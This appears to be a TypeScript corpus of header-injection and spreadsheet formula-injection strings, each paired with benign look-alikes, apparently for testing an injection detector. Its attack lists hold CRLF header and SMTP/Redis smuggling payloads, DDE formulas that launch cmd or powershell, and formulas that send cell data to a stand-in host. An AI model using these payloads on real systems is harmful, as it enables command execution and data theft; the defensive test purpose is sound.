import type { CategoryCorpus } from './corpus.ts'
import { cross, dev, some } from './corpus.ts'

export const headerCorpus: CategoryCorpus = {
  category: 'header_injection',
  attacks: [
    dev(
      'encoded',
      some(
        30,
        cross(
          ['/go?u=x', 'lang=en', 'name=ann'],
          ['%0d%0a', '%0a', '%0D%0A'],
          ['Set-Cookie: a=b', 'Location:%20http://h.example', 'X-Injected: 1', 'Content-Length:0', 'Bcc:all@h.example'],
        ),
      ),
    ),
    dev('split and smuggle', [
      'a%0d%0a%0d%0a<script>alert(1)</script>',
      'x%0d%0aHTTP/1.1%20200%20OK',
      '%0d%0aGET%20/admin',
      '%0aFLUSHALL%0a',
      '%0d%0aMAIL%20FROM:a',
      'q%250d%250aSet-Cookie:a=1',
      'b%0aRCPT TO:c',
    ]),
    dev('others', [
      '%E5%98%8A%E5%98%8DSet-Cookie:a=b',
      'a\\r\\nSet-Cookie: s=1',
      'ann@h.example\\nBcc: b@h.example',
      'x%0d%20Location:http://h.example',
      '%u000aSet-Cookie:x=1',
      'v%0d%0aTransfer-Encoding: chunked',
      'w%0a%20Refresh: 0',
      'e%0D%0ACONFIG+SET dir /tmp',
      '%0aCc:x@h.example',
    ]),
  ],
  benign: [
    dev(
      'forms and texts',
      some(
        40,
        cross(
          ['body=', 'text=', 'note='],
          ['Hello%0D%0AHow+are+you', 'line%0Aline', 'a%20b%0A%0Ac', 'to%3A+ann'],
          ['', '&x=1', '%0Abye', '%0D%0A'],
        ),
      ),
    ),
    dev('examples', [
      'HTTP/1.1 200 OK\\r\\nContent-Type: text/html',
      'Set-Cookie: a=b; HttpOnly',
      'To: ann@h.example\nCc: bob@h.example',
      '"a\\r\\nb"',
      'printf("x\\n")',
      'Host: h.example',
      '%0A is a line feed',
      'curl -H "X-A: 1"',
      'Location: Bern',
      'Subject: Hi\nFrom: ann',
    ]),
    dev('others', [
      'poem%0Aby%20Ann',
      '\\r\\n ends a line',
      'From: a\\nTo: b',
      'mailto:a@h.example?subject=Hi&body=Dear%20Bob%0A',
      'text/plain;charset=utf-8,%0A',
      'sms:?body=x%0Ay',
      'tweet?text=a%0Ab',
      'split("\\r\\n")',
      'cookie: theme',
      'x-y-z',
    ]),
  ],
}

export const formulaCorpus: CategoryCorpus = {
  category: 'formula_injection',
  attacks: [
    dev(
      'commands',
      some(
        20,
        cross(
          ['=', '+', '-', '@SUM(1+1)*'],
          ["cmd|'/C calc'!A0", "powershell|'-c x'!A1", 'cmd|"/c id"!A1', "mshta|'http://h.example'!A0"],
        ),
      ),
    ),
    dev(
      'network',
      some(
        20,
        cross(
          ['='],
          [
            'HYPERLINK("http://h.example/?d="&A1&B1,"x")',
            'WEBSERVICE("http://h.example/?"&A1)',
            'IMPORTXML(CONCAT("http://h.example/?v=",CONCATENATE(A2:E2)),"//a")',
            'IMAGE("https://h.example/?x="&C3)',
            'IMPORTDATA("http://h.example/?q="&A1)',
          ],
          ['', ',ann', ';1'],
        ),
      ),
    ),
    dev('others', [
      '=DDE("cmd","/C calc","x")',
      "ann,=cmd|'/C ping h'!A0,3",
      '"=rundll32|\'x,y\'!A"',
      '=IMPORTHTML("http://h.example/"&A1,"table",1)',
      'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
      "name;=2+5+cmd|' /C calc'!A0",
      '=IMPORTFEED(CONCAT("http://h.example/",A1))',
      '=EXEC("id")',
    ]),
  ],
  benign: [
    dev(
      'sheets',
      some(
        40,
        cross(
          ['=', 'Use ='],
          [
            'SUM(A1:A3)',
            'IF(A1="cmd",1,0)',
            'HYPERLINK("https://h.example","Home")',
            'IMPORTXML("https://h.example/list","//h2")',
            'VLOOKUP(A1,B:C,2,FALSE)',
            'CONCAT(A1,"|",B1)',
            'IMAGE("https://h.example/a.png")',
          ],
          ['', ';', ' here'],
        ),
      ),
    ),
    dev('text', [
      '- item',
      '+41 44 123 45 67',
      '@ann thanks',
      '=== Title ===',
      '-1',
      '+1 for this',
      'a | b | c',
      '| cmd | meaning |',
      "ls | grep 'x'!",
      'cmd | more',
      '=> arrow',
      '-rw-r--r--',
      '@media print',
      '- run cmd',
      '+++ b/file',
    ]),
    dev('others', [
      '=QUERY(A:C,"select A where B > 1")',
      '=ARRAYFORMULA(A1:A&" "&B1:B)',
      '=HYPERLINK("https://h.example/item/"&A2,A2)',
      '=IMPORTRANGE("https://h.example/s","A1:B2")',
      "=IF(B1='x',1,2)",
      '=TEXT(A1,"yyyy")',
      '-exec rm {}',
      '@sum = 3',
      '= cmd',
      '=A1&"|"&A2',
    ]),
  ],
}
